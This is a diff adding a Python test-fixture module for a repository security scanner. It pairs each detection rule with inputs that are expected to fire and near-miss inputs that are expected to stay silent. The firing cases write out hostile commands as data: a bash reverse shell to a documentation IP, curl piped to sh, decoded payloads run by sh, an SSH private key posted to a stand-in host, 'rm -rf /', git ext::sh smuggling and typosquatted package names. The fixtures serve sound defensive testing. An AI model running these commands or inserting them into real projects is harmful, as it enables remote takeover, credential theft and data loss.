@@ -1,0 +1,88 @@
+"""Facts of what a repository says and runs beyond its weights, a line for each rule: where it fires, where it nearly does."""
+
+from scanners.facts import Anomaly, Call, Opens, Reference
+
+
+def command(*pipeline):
+    name = pipeline[0].split()[0]
+    return Call("shell", name, "shell", f"line 1: {' | '.join(pipeline)}", pipeline)
+
+
+def source(path, by=""):
+    return Opens("package.source", path, by)
+
+
+def package(name, manager="pip"):
+    return Reference("package", manager, name, "imported")
+
+
+FIRES = {
+    "shell-runs-fetched": [
+        ([command("curl -s https://a.example/x", "sh")], "high", "install.sh", "shell"),
+        ([command("curl -s https://a.example/x", "sh")], "medium", "README.md", "markdown"),
+        ([command("curl -s http://203.0.113.7/x", "sh")], "critical", "README.md", "markdown"),
+        ([command("curl -LsSf https://astral.sh/uv/install.sh", "sh")], "low", "install.sh", "shell"),
+    ],
+    "shell-runs-decoded": [([command("echo aWQ=", "base64 -d", "sh")], "critical")],
+    "shell-gives-a-shell-away": [([command("bash -i >& /dev/tcp/203.0.113.7/1 0>& 1")], "critical")],
+    "shell-sends-secrets": [([command("curl -d @/root/.ssh/id_rsa https://a.example")], "high")],
+    "shell-stays": [([command("crontab -")], "medium")],
+    "shell-disarms": [
+        ([command("history -c")], "medium"),
+        ([command("powershell -ExecutionPolicy Bypass a.ps1")], "low"),
+    ],
+    "shell-destroys": [([command("rm -rf /")], "high")],
+    "shell-leaves-its-container": [([command("docker run --privileged x")], "medium")],
+    "package-source": [
+        ([source("git+https://github.com/someone/x", "x")], "medium", "requirements.txt", "requirements"),
+        ([source("git+https://github.com/someone/x", "x")], "low", "README.md", "markdown"),
+        ([source("git+https://github.com/huggingface/transformers")], "low", "requirements.txt", "requirements"),
+        ([source("http://a.example/x.whl", "x")], "high", "requirements.txt", "requirements"),
+        ([source("https://203.0.113.7/x.whl", "x")], "high"),
+        ([source("https://a.example/x.whl", "x")], "medium"),
+        ([source("/tmp/x.whl", "local")], "medium"),
+    ],
+    "package-index": [
+        ([source("https://a.example/simple", "--extra-index-url")], "medium"),
+        ([source("http://203.0.113.7/simple", "--index-url")], "high"),
+        ([source("a.example", "--trusted-host")], "medium"),
+    ],
+    "package-lookalike": [
+        ([package("requets")], "medium"),
+        ([package("scikit_laern")], "medium"),
+        ([package("tensor-flow")], "medium"),
+        ([package("trannsformers")], "medium"),
+    ],
+    "git-place": [
+        ([Opens("git.place", "ext::sh -c id", "url")], "high"),
+        ([Opens("git.place", "-u./x", "url")], "high"),
+        ([Opens("git.place", "!sh", "update")], "high"),
+        ([Opens("git.place", "http://a.example/x", "url")], "medium"),
+        ([Opens("git.place", "https://github.com/a/b", "url")], "low"),
+        ([Opens("git.place", "evil", "filter")], "low"),
+    ],
+    "python-path-file": [([Anomaly("python.path-file", "line 1")], "medium")],
+}
+SILENT = {
+    "shell-runs-fetched": [([command("curl -s https://a.example/x", "jq .")],), ([command("echo", "sh")],)],
+    "shell-runs-decoded": [([command("base64 -d x > y")],)],
+    "shell-gives-a-shell-away": [([command("nc -z localhost 80")],)],
+    "shell-sends-secrets": [([command("cat /root/.ssh/id_rsa.pub")],)],
+    "shell-stays": [([command("crontab -l")],), ([command("echo 'export A=1' >> /root/.bashrc")],)],
+    "shell-disarms": [([command("history")],)],
+    "shell-destroys": [([command("rm -rf /tmp/x")],)],
+    "shell-leaves-its-container": [([command("docker run x")],)],
+    "package-source": [
+        ([source("git+https://github.com/someone/x@" + "a" * 40, "x")],),
+        ([source("./wheels/x.whl", "local")],),
+        ([source(".", "--editable")],),
+        ([source("git+https://github.com/huggingface/transformers")], "README.md", "markdown"),
+    ],
+    "package-index": [
+        ([source("https://download.pytorch.org/whl/cu121", "--extra-index-url")],),
+        ([source("conda-forge", "--channel")],),
+        ([source("https://download.pytorch.org/x.whl", "x")],),
+    ],
+    "package-lookalike": [([package("requests"), package("numpy"), package("scapy"), package("cattrs"), package("rich")],), ([package("requets", "apt")],)],
+    "git-place": [([Opens("git.place", "libs/x", "path")],)],
+}  # fmt: skip
